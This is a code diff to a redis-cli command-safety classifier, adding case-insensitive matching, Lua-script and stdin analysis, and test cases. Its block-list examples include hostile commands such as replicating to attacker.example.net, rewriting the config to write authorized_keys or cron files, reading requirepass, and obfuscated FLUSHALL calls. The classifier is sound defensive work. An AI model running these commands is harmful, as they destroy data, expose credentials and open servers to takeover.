@@ -518,17 +518,16 @@ const REDIS_READS = [
   'wait',
 ];
 
-/** Redis command words are case-insensitive: both spellings are listed (mixed case falls to `*`, a write). */
+/** Redis command words are case-insensitive: the levels that hold them say so (`caseInsensitive`). */
 function redisCommands(byName: Record<string, CommandSpec>): Record<string, CommandSpec> {
   const out: Record<string, CommandSpec> = {};
-  for (const [name, level] of Object.entries(byName)) {
-    out[name] = { optionsFirst: true, ...level };
-    out[name.toUpperCase()] = { optionsFirst: true, ...level };
-  }
+  for (const [name, level] of Object.entries(byName))
+    out[name] = { optionsFirst: true, ...(level.subcommands ? { caseInsensitive: true } : {}), ...level };
   return out;
 }
 
-const LUA = { kind: 'code', language: 'lua' } as const;
+/** A Lua script for Redis: the commands it runs with redis.call are judged (src/analyze/shell/own-commands.ts). */
+const LUA = { kind: 'commands', format: 'redis-lua' } as const;
 
 const REDIS: CommandSpec['subcommands'] = {
   ...redisCommands(Object.fromEntries(REDIS_READS.map((n) => [n, reads('reads keys or server state')]))),
@@ -656,7 +655,7 @@ const REDIS_SPEC: ProgramSpec = {
     {
       names: ['--eval'],
       value: 'required',
-      role: { kind: 'code-file', language: 'lua' },
+      role: { kind: 'commands-file', format: 'redis-lua' },
       verb: { effect: 'write', why: 'runs a Lua script file on the server' },
     },
     { names: ['--pipe'], verb: { effect: 'write', why: 'sends the commands on stdin in bulk' } },
@@ -695,6 +694,9 @@ const REDIS_SPEC: ProgramSpec = {
     harmless('--help'),
   ],
   subcommands: REDIS,
+  caseInsensitive: true,
+  // With no command given, it runs the commands it reads, one a line (`redis-cli < cmds.txt`).
+  stdin: { kind: 'commands', format: 'lines' },
   when: [
     when('destroy', 'removes a node from the cluster', [{ name: '--cluster', value: '^del-node$' }]),
     when(
@@ -716,6 +718,21 @@ const REDIS_SPEC: ProgramSpec = {
       'redis-cli REPLICAOF attacker.example.net 6379',
       'valkey-cli ACL SETUSER agent on >pw +@all',
       'redis-cli --cluster call 10.0.0.1:6379 FLUSHALL',
+      'redis-cli FlushAll',
+      'redis-cli -n 0 FlushDb',
+      'redis-cli Config Get requirepass',
+      'redis-cli cOnFiG sEt dbfilename authorized_keys',
+      "printf 'flushdb\\n' | redis-cli",
+      "redis-cli -n 3 <<'EOF'\nSELECT 3\nFLUSHDB\nEOF",
+      "redis-cli <<< 'CONFIG SET dir /var/spool/cron'",
+      'echo "shutdown nosave" | redis-cli',
+      'some-generator | redis-cli',
+      'redis-cli < "$CMDS"',
+      'redis-cli EVAL "return redis.call(\'flushall\')" 0',
+      'redis-cli eval "return redis.call(KEYS[1])" 1 flushall',
+      'redis-cli EVAL "local c = redis.call; return c(\'FLUSHDB\')" 0',
+      'redis-cli EVAL "return loadstring(\'return 1\')()" 0',
+      "redis-cli FUNCTION LOAD \"#!lua name=x\\nredis.register_function('wipe', function() return redis.call('FLUSHALL') end)\"",
     ],
     allow: [
       'redis-cli ping',
@@ -725,6 +742,14 @@ const REDIS_SPEC: ProgramSpec = {
       'redis-cli SET feature:x on',
       'redis-cli DEL session:42',
       'redis-cli --version',
+      "redis-cli KEYS '*'",
+      'redis-cli keys "user:*"',
+      'redis-cli Get session:42',
+      'redis-cli --scan',
+      "printf 'PING\\nINFO\\n' | redis-cli",
+      "redis-cli <<< 'GET session:42'",
+      'redis-cli EVAL "return redis.call(\'GET\', KEYS[1])" 1 session:42',
+      'redis-cli EVAL_RO "return redis.call(\'get\', KEYS[1])" 1 k',
     ],
   },
 };
